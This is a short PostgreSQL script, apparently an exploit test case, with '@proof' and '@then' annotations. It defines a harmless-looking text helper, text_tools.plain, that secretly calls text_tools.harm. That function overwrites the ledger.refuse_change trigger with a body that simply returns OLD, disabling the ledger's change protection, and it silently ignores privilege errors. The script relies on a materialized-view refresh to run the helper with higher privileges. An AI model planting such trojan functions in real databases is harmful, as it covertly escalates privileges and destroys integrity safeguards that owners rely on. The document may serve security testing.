-- @proof SELECT prosrc ~ 'RETURN OLD' FROM pg_proc WHERE oid = 'ledger.refuse_change'::regproc
-- @then REFRESH MATERIALIZED VIEW ledger.kinds
CREATE FUNCTION text_tools.harm() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  CREATE OR REPLACE FUNCTION ledger.refuse_change() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN OLD; END';
EXCEPTION WHEN insufficient_privilege THEN NULL;
END $$;
CREATE OR REPLACE FUNCTION text_tools.plain(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  PERFORM text_tools.harm();
  RETURN $1;
END $$;
